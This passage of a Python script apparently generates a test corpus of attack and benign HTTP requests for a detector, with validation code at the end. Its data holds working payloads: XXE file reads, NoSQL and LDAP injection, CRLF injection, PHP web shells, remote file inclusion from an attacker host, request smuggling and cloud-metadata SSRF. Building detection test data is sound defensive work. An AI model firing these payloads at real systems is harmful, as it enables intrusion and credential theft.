        A(c, "xxe", "xml-import", "POST", c.pick(["reports.acme-corp.com", "data-portal.example.io", "status.example.org"]), "/api/v1/branding/logo" if "<svg" in x else path, x, ct)
    # UTF-16 encoded XML (a classic evasion; the body is not UTF-8)
    x16 = ("<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><r>&xxe;</r>").encode("utf-16")
    c.emit("xxe", "xml-import", None, None, None, raw=raw_request("POST", "/api/import/xml", [("Host", "data-portal.example.io"), ("User-Agent", "python-requests/2.31.0"), ("Content-Type", "application/xml; charset=utf-16")], x16))


def a_nosqli(c):
    hosts = ["status.example.org", "api.example.io", "reports.acme-corp.com", "charts.example.io"]
    items = [
        ("POST", "/api/login", jdump({"username": "admin", "password": {"$ne": None}}), "application/json"),
        ("POST", "/api/login", jdump({"email": {"$regex": "^adm"}, "password": {"$gt": ""}}), "application/json"),
        ("POST", "/api/v1/auth", jdump({"username": {"$in": ["admin", "root", "administrator"]}, "password": {"$ne": "x"}}), "application/json"),
        ("POST", "/api/login", "username[$ne]=x&password[$ne]=x", "application/x-www-form-urlencoded"),
        ("POST", "/api/login", "username%5B%24regex%5D=.*&password%5B%24regex%5D=.*", "application/x-www-form-urlencoded"),
        ("GET", "/api/v1/dashboards?owner[$ne]=null", None, None),
        ("GET", "/api/v1/reports?filter[author][$regex]=^a.*&filter[private][$ne]=true", None, None),
        ("GET", "/api/v1/users?username%5B%24gt%5D=&limit=1000", None, None),
        ("POST", "/api/v1/reports/search", jdump({"filter": {"$where": "sleep(5000) || true"}}), "application/json"),
        ("POST", "/api/v1/reports/search", jdump({"filter": {"$where": "this.role == 'admin' || (function(){ var d = new Date(); while (new Date() - d < 5000) {} return true; })()"}}), "application/json"),
        ("POST", "/api/v1/charts/search", jdump({"owner": "x'; return true; var y='"}), "application/json"),
        ("POST", "/api/v1/charts/search", jdump({"$or": [{}, {"a": "a"}], "public": False}), "application/json"),
        ("POST", "/api/v1/reports/aggregate", jdump({"pipeline": [{"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}}, {"$project": {"u.password": 1, "u.apiKey": 1}}]}), "application/json"),
        ("GET", "/api/v1/dashboards/search?q[$where]=function()%7Breturn%20true%7D", None, None),
        ("POST", "/api/password/reset", jdump({"token": {"$ne": ""}, "password": "Pwned123!"}), "application/json"),
        ("POST", "/api/login", jdump({"username": "admin", "password": {"$regex": "^p"}}), "application/json"),
        ("POST", "/api/v1/alerts/query", jdump({"labels": {"severity": {"$nin": []}}, "$comment": "x", "$where": "1==1"}), "application/json"),
        ("GET", "/api/v1/metrics?name[$regex]=.*&name[$options]=si", None, None),
        ("POST", "/api/login", '{"username":"admin","password":{"\\u0024ne":null}}', "application/json"),
        ("POST", "/api/v1/items", jdump({"id": {"$gt": -1}, "$expr": {"$eq": [1, 1]}}), "application/json"),
        ("GET", "/api/v1/users/lookup?email=" + enc("a@b.c' || '1'=='1"), None, None),
        ("POST", "/api/login", "username=admin&password[%24exists]=true", "application/x-www-form-urlencoded"),
    ]
    for m, u, b, ct in items:
        A(c, "nosqli", "mongo-api", m, c.pick(hosts), u, b, ct)


def a_ldapi(c):
    pls = ["*)(uid=*))(|(uid=*", "admin)(|(password=*))", "*)(objectClass=*", "admin*)((|userPassword=*)", "*)(|(memberOf=cn=admins,ou=groups,dc=example,dc=com))",
           "admin)(!(&(1=0", "*()|&'", "x)(|(cn=*)(userPassword=*))", "*)(uid=*))\x00", "admin)(&)", "*))(|(objectClass=*", "admin)(|(mail=*"]
    for i, p in enumerate(pls):
        k = i % 6
        if k == 0:
            A(c, "ldapi", "grafana-login", "POST", c.pick(H_GRAFANA), "/login", jdump({"user": p, "password": "x"}), "application/json")
        elif k == 1:
            A(c, "ldapi", "superset-login", "POST", c.pick(H_SUPERSET), "/login/", form([("csrf_token", f"Ij{c.tok(40)}"), ("username", p), ("password", "x")]), "application/x-www-form-urlencoded")
        elif k == 2:
            A(c, "ldapi", "jupyterhub-login", "POST", c.pick(H_JUPYTER), "/hub/login?next=%2Fhub%2F", form([("_xsrf", c.tok(40)), ("username", p), ("password", "x")]), "application/x-www-form-urlencoded")
        elif k == 3:
            A(c, "ldapi", "user-lookup", "GET", c.pick(H_GRAFANA), "/api/users/lookup?loginOrEmail=" + enc(p), extra=g_extra(c, False))
        elif k == 4:
            A(c, "ldapi", "airflow-login", "POST", c.pick(H_AIRFLOW), "/login/", form([("csrf_token", f"Ij{c.tok(40)}"), ("username", p), ("password", "x")]), "application/x-www-form-urlencoded")
        else:
            A(c, "ldapi", "user-lookup", "GET", c.pick(["directory.acme-corp.com", "api.example.io"]), "/api/v1/people/search?q=" + encp(p) + "&attrs=cn,mail")
    for u in ["/api/org/users/lookup?query=" + enc("admin*)(|(mail=*") + "&limit=10", "/api/search/users?filter=%2a%29%28%7c%28uid%3d%2a", "/api/v1/groups/members?group=" + enc("admins)(|(cn=*"),
              "/api/v1/people/search?q=" + enc("*)(userPassword=*"), "/api/v1/people/search?q=" + enc("jdoe)(|(objectclass=*)")]:
        A(c, "ldapi", "user-lookup", "GET", c.pick(["directory.acme-corp.com", "api.example.io"] + H_GRAFANA), u)
    A(c, "ldapi", "zabbix-login", "POST", c.pick(H_ZABBIX), "/zabbix/index.php", form([("name", "*)(uid=*))(|(uid=*"), ("password", "x"), ("autologin", "1"), ("enter", "Sign in")]), "application/x-www-form-urlencoded")


def a_crlf(c):
    items = [
        (H_GRAFANA, "/login?redirect=%2F%0d%0aSet-Cookie:%20grafana_session=attacker"),
        (H_JUPYTER, "/login?next=%2F%0D%0ALocation:%20https://evil.example/"),
        (H_AIRFLOW, "/login/?next=/home%0d%0aSet-Cookie:%20session=evil;%20Path=/"),
        (H_KIBANA, "/logout?next=%2Fapp%2Fhome%0d%0aX-Injected:%201"),
        (["reports.acme-corp.com"], "/api/export/csv?filename=report.csv%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
        (["reports.acme-corp.com"], "/api/export?filename=a.csv%0d%0aContent-Disposition:%20inline"),
        (H_SUPERSET, "/superset/explore/?url=%E5%98%8A%E5%98%8DSet-Cookie:%20session=evil"),
        (H_GRAFANA, "/api/login/ping%0d%0aX-Forwarded-Host:%20evil.example"),
        (H_METABASE, "/auth/login?redirect=%0aLocation:%20https://evil.example"),
        (H_REDASH, "/login?next=%0d%0a%0d%0a%3Chtml%3E%3Cbody%3Epwned%3C/body%3E%3C/html%3E"),
        (H_MLFLOW, "/get-artifact?path=model.pkl%0d%0aContent-Type:%20text/html&run_uuid=" + c.hex(32)),
        (H_GRAFANA, "/d/abc/x?orgId=1%0d%0aSet-Cookie:%20redirect_to=https%253A%252F%252Fevil.example"),
        (H_KIBANA, "/app/home?_g=()%23%0d%0aSet-Cookie:x=1"),
        (H_AIRFLOW, "/home?redirect=%0d%0aRefresh:%200;url=https://evil.example"),
        (["reports.acme-corp.com"], "/download?file=x%E5%98%8A%E5%98%8DContent-Length:%200%E5%98%8A%E5%98%8D%E5%98%8A%E5%98%8DHTTP/1.1%20200%20OK"),
        (H_PROM, "/graph?g0.expr=up%0d%0aSet-Cookie:%20x=y"),
    ]
    for hs, u in items:
        A(c, "crlf", "redirect-params", "GET", c.pick(hs), u)
    # header injection through JSON fields that become headers or mail headers
    A(c, "crlf", "header-fields", "POST", c.pick(H_GRAFANA), "/api/v1/provisioning/contact-points", jdump({"name": "m", "type": "email", "settings": {"addresses": "ops@example.com\r\nBcc: everyone@corp.example", "singleEmail": True}}), "application/json", extra=g_extra(c, False))
    A(c, "crlf", "header-fields", "POST", c.pick(H_GRAFANA), "/api/datasources", jdump({"name": "h", "type": "prometheus", "url": "http://prometheus:9090", "access": "proxy", "jsonData": {"httpHeaderName1": "X-Test\r\nHost: 169.254.169.254"}, "secureJsonData": {"httpHeaderValue1": "1"}}), "application/json", extra=g_extra(c, False))
    A(c, "crlf", "header-fields", "POST", c.pick(H_KAFKA), "/v3/clusters/lkc-1/topics/orders/records", jdump({"headers": [{"name": "trace\r\nX-Admin: true", "value": "MQ=="}], "value": {"type": "JSON", "data": {}}}), "application/json")
    A(c, "crlf", "header-fields", "POST", c.pick(H_AIRFLOW), "/api/v1/connections", jdump({"connection_id": "h", "conn_type": "http", "host": "api.partner.example", "extra": jdump({"headers": {"X-Token": "a\r\nX-Forwarded-For: 127.0.0.1"}})}), "application/json", extra=af_extra(c))
    A(c, "crlf", "header-fields", "GET", c.pick(H_GRAFANA), "/api/health", extra=[["X-Request-Id", "abc%0d%0aSet-Cookie:%20grafana_session=evil"]])


def a_php(c):
    hosts = ["cacti.acme-corp.com", "librenms.example.org", "nagios.internal.example.net", "monitor.example.org", "phpmyadmin.internal.example.net"]
    items = [
        ("GET", "/index.php?page=php://filter/convert.base64-encode/resource=../../include/config.php", None, None),
        ("GET", "/graph_view.php?action=preview&file=php://filter/read=convert.base64-encode/resource=/var/www/html/cacti/include/config.php", None, None),
        ("GET", "/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==&c=id", None, None),
        ("GET", "/index.php?module=expect://id", None, None),
        ("GET", "/plugins/reports/view.php?file=phar://./uploads/avatar.jpg/test.txt", None, None),
        ("POST", "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "<?php system('id'); ?>", "application/x-www-form-urlencoded"),
        ("POST", "/cgi-bin/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "<?php echo shell_exec('whoami'); ?>", "application/x-www-form-urlencoded"),
        ("POST", "/settings.php?action=save", form([("theme", "modern"), ("footer_html", "<?php @eval($_POST['x']); ?>")]), "application/x-www-form-urlencoded"),
        ("GET", "/nagiosxi/includes/components/graphexplorer/visApi.php?type=stack&host=localhost&service=Current_Load&div=x&opt=topspline;${@phpinfo()}", None, None),
        ("POST", "/phpmyadmin/index.php", form([("table", "a"), ("find", "0/e\x00"), ("replaceWith", "system('id')"), ("columnIndex", "0"), ("useRegex", "on")]), "application/x-www-form-urlencoded"),
        ("GET", "/graph_templates.php?action=template_edit&id=1%20&header=" + enc("O:8:\"stdClass\":1:{s:4:\"code\";s:10:\"phpinfo();\";}"), None, None),
        ("GET", "/lib/api.php?cmd=assert&arg=" + enc("system('id')"), None, None),
        ("POST", "/ajax_form.php", form([("type", "widget"), ("code", "<?=`$_GET[0]`?>")]), "application/x-www-form-urlencoded"),
        ("GET", "/index.php?mod=" + enc("eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));"), None, None),
    ]
    bnd = "----WebKitFormBoundary" + c.tok(16)
    up = f"--{bnd}\r\nContent-Disposition: form-data; name=\"logo\"; filename=\"logo.php.png\"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n<?php system($_GET['c']); ?>\r\n--{bnd}--\r\n"
    items.append(("POST", "/settings/branding/upload", up, f"multipart/form-data; boundary={bnd}"))
    for m, u, b, ct in items:
        A(c, "php", "php-monitoring", m, c.pick(hosts), u, b, ct)


def a_rfi(c):
    e = c.evil_ip()
    hosts = ["cacti.acme-corp.com", "librenms.example.org", "nagios.internal.example.net", "monitor.example.org"]
    for u in [f"/index.php?page=http://{e}/shell.txt?", f"/include/config.php?path_to_root=http://{e}/x.txt%00", f"/graph.php?template=ftp://{e}/pub/t.php",
              f"/plugins/weathermap/editor.php?plug=0&mapname=test&action=set_map_properties&param=&param2=&debug=existing&node_name=&node_x=&node_y=&node_new_name=&node_label=&node_infourl=&node_hover=&node_iconfilename=&link_name=&link_label=&link_infourl=&link_hover=&link_bandwidth_in=&link_bandwidth_out=&link_target=&link_width=&link_offset_in=&link_offset_out=&link_comment_in=&link_comment_out=&map_title=http://{e}/x.php",
              f"/index.php?lang=https://{c.oast()}/lang.txt?", f"/modules/report.php?inc=http%3A%2F%2F{e}%2Fr57.txt%3F", f"/nagios/side.php?link=\\\\{e}\\share\\s.php",
              f"/lib/init.php?config[include_path]=http://{e}/", f"/view.php?file=http://{e}/c99.txt&cmd=id", f"/index.php?theme=hTtP://{e}/t.txt?",
              f"/index.php?page=http://{e}:8080/x.txt%23", f"/templates/load.php?tpl=//{e}/tpl.php"]:
        A(c, "rfi", "php-monitoring", "GET", c.pick(hosts), u)


def a_protocol(c):
    items = []
    smug = "0\r\n\r\nGET /api/admin/users HTTP/1.1\r\nHost: localhost\r\nX-Ignore: X"
    items.append(("POST", "/loki/api/v1/push", [("Host", c.pick(H_LOKI)), ("User-Agent", "curl/8.5.0"), ("Content-Type", "application/json"), ("Transfer-Encoding", "chunked"), ("Content-Length", str(len(smug)))], smug.encode()))
    body2 = "5c\r\nGPOST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n"
    items.append(("POST", "/v1/logs", [("Host", c.pick(H_OTLP)), ("User-Agent", "curl/8.5.0"), ("Content-Type", "application/json"), ("Content-Length", "4"), ("Transfer-Encoding", "chunked")], body2.encode()))
    items.append(("POST", "/_bulk", [("Host", c.pick(H_ES)), ("User-Agent", "curl/8.5.0"), ("Content-Type", "application/x-ndjson"), ("Transfer-Encoding", "chunked"), ("Transfer-Encoding", "identity"), ("Content-Length", "6")], b"0\r\n\r\nX"))
    items.append(("POST", "/api/v2/write?bucket=x", [("Host", c.pick(H_INFLUX)), ("User-Agent", "curl/8.5.0"), ("Content-Type", "text/plain"), ("Transfer-Encoding ", "chunked"), ("Content-Length", "6")], b"0\r\n\r\nG"))
    items.append(("POST", "/api/v1/push", [("Host", "mimir.internal.example.net"), ("User-Agent", "curl/8.5.0"), ("Content-Type", "application/x-protobuf"), ("Transfer-Encoding", "\tchunked"), ("Content-Length", "6")], b"0\r\n\r\nG"))
    items.append(("POST", "/services/collector/event", [("Host", "splunk-hec.acme-corp.com:8088"), ("User-Agent", "curl/8.5.0"), ("Content-Type", "application/json"), ("Transfer-Encoding", "xchunked"), ("Content-Length", "6")], b"0\r\n\r\nG"))
    items.append(("POST", "/api/v1/push", [("Host", "mimir.internal.example.net"), ("User-Agent", "curl/8.5.0"), ("Content-Type", "application/x-protobuf"), ("Content-Length", "5"), ("Content-Length", "40")], b"hello"))
    items.append(("GET", "/api/v1/query?query=up", [("Host", c.pick(H_PROM)), ("User-Agent", "curl/8.5.0"), ("Range", "bytes=0-," + ",".join(f"{k}-" for k in range(1, 120)))], None))
    items.append(("GET", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", [("Host", "169.254.169.254"), ("User-Agent", "curl/8.5.0")], None))
    items.append(("POST", "/api/ds/query", [("Host", c.pick(H_GRAFANA)), ("User-Agent", "curl/8.5.0"), ("Content-Type", "application/json"), ("Content-Length", "-1")], b'{"queries":[]}'))
    items.append(("GET", "/api/health", [("Host", c.pick(H_GRAFANA)), ("User-Agent", "curl/8.5.0"), ("Transfer-Encoding", "chunked")], b"0\r\n\r\nGET /api/admin/settings HTTP/1.1\r\nHost: localhost\r\n\r\n"))
    items.append(("POST", "/v1/traces", [("Host", c.pick(H_OTLP)), ("User-Agent", "curl/8.5.0"), ("Content-Type", "application/json"), ("Content-Length", "35"), ("Transfer-Encoding", "chunked, identity")], b"0\r\n\r\nPOST /v1/admin HTTP/1.1\r\n\r\n"))
    items.append(("GET", "/loki/api/v1/labels", [("Host", c.pick(H_LOKI)), ("Host", "169.254.169.254"), ("User-Agent", "curl/8.5.0")], None))
    for m, u, hs, b in items:
        c.emit("protocol", "smuggling" if any(k.lower() in ("transfer-encoding", "content-length") for k, _ in hs) else "request-line", None, None, None, raw=raw_request(m, u, hs, b))


def attacks():
    c = Corpus(SEED)
    a_lfi(c)
    a_ssrf(c)
    a_sqli(c)
    a_xss(c)
    a_java(c)
    a_rce(c)
    a_generic(c)
    a_ssti(c)
    a_xxe(c)
    a_nosqli(c)
    a_ldapi(c)
    a_crlf(c)
    a_php(c)
    a_rfi(c)
    a_protocol(c)
    return c


# ========================================================================= validation

REQUIRED = ("id", "set", "category", "expect")


def validate(c):
    ids = set()
    for o in c.lines:
        line = json.dumps(o, ensure_ascii=False)
        back = json.loads(line)
        assert back == o
        for k in REQUIRED:
            assert k in o, (o.get("id"), k)
        assert o["id"] not in ids, o["id"]
        ids.add(o["id"])
        assert o["set"] == SET
        parts = o["id"].split("/")
        assert len(parts) == 4 and parts[0] == SET and parts[1] == o["category"] and parts[3].isdigit(), o["id"]
        if o["category"] == "benign":
            assert o["expect"] == "pass"
        else:
            assert o["expect"] == "detect"
        if "raw_b64" in o:
            raw = base64.b64decode(o["raw_b64"])
            head, sep, body = raw.partition(b"\r\n\r\n")
            assert sep, o["id"]
            hl = head.decode("latin-1").split("\r\n")
            assert hl[0].endswith(" HTTP/1.1"), o["id"]
            hs = [h.split(":", 1) for h in hl[1:]]
            cls = [v.strip() for k, v in hs if k.lower() == "content-length"]
            te = [k for k, v in hs if k.lower() == "transfer-encoding"]
            if o["category"] != "protocol":
                assert not te and cls == [str(len(body))], o["id"]
                ce = [v.strip() for k, v in hs if k.lower() == "content-encoding"]
                if ce == ["gzip"]:
                    json.loads(gzip.decompress(body))
                if ce == ["snappy"]:
                    snappy_decompress(body)
            continue
        for k in ("method", "uri", "version", "headers"):
            assert k in o, (o["id"], k)
        names = [h[0].lower() for h in o["headers"]]
        assert names[0] == "host" and "user-agent" in names, o["id"]
        assert all(isinstance(h, list) and len(h) == 2 and all(isinstance(x, str) for x in h) for h in o["headers"]), o["id"]
        assert o["uri"].startswith("/") and not any(ch <= " " or ch == "\x7f" for ch in o["uri"]), o["id"]
        if "body" in o:
            cl = [h[1] for h in o["headers"] if h[0].lower() == "content-length"]
            assert cl == [str(len(o["body"].encode("utf-8")))], o["id"]
            if o["body"]:
                assert "content-type" in names, o["id"]
            ct = [h[1] for h in o["headers"] if h[0].lower() == "content-type"]
            if ct and ct[0] == "application/json" and o["category"] == "benign" and o["body"]:
                dec, pos, txt = json.JSONDecoder(), 0, o["body"].strip()
                while pos < len(txt):  # NDJSON bulk bodies and concatenated HEC events too
                    _, pos = dec.raw_decode(txt, pos)
                    while pos < len(txt) and txt[pos] in " \r\n":
                        pos += 1
    return ids


def main():
    if len(sys.argv) != 2 or sys.argv[1] not in ("attacks", "benign"):
        sys.exit("usage: corpus-dataops.py attacks|benign")
    c = attacks() if sys.argv[1] == "attacks" else benign()
    validate(c)
    if c.dups:
        print(f"warning: {c.dups} duplicate requests", file=sys.stderr)
    out = sys.stdout
    for o in c.lines:
        out.write(json.dumps(o, ensure_ascii=False) + "\n")
    cnt = collections.Counter("/".join(o["id"].split("/")[1:3]) for o in c.lines)
    print(f"{len(c.lines)} requests", file=sys.stderr)
    for k in sorted(cnt):
        print(f"  {k}: {cnt[k]}", file=sys.stderr)


if __name__ == "__main__":
    main()
